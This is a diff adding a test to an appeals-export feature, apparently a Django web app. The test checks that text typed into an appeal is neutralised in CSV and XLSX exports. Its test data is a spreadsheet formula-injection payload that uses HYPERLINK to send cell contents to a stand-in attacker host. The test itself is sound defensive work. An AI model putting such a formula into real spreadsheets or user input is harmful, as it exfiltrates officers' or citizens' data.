@@ -65,3 +65,18 @@ def test_the_inbox_export_writes_dates_and_labels_as_every_list_does(client, app
     assert registered == appeal.registered_on.strftime("%d.%m.%Y")
     assert row[header.index("Статус")] == "зарегистрировано"
     assert row[header.index("Филиал")] == appeal.branch.name_ru
+
+
+def test_text_typed_into_an_appeal_reaches_the_export_as_text_not_a_formula(client, place, tree):
+    # What a citizen or an officer types is shown as typed, but never runs in the
+    # officer's spreadsheet: in CSV with a leading apostrophe, in XLSX as a string cell.
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    register(place, dt.datetime(2021, 3, 19, 5, 0, tzinfo=UTC), text=formula)
+    client.force_login(user_with_role("reception_officer", tree.atyrau))
+    header, row = read_csv(client.get("/ru/appeals/export.csv"))[:2]
+    assert row[header.index("Текст")] == "'" + formula
+    book = load_workbook(io.BytesIO(client.get("/ru/appeals/export.xlsx").content))
+    sheet = book.active
+    assert sheet is not None
+    cell = sheet.cell(row=2, column=header.index("Текст") + 1)
+    assert (cell.value, cell.data_type) == (formula, "s")
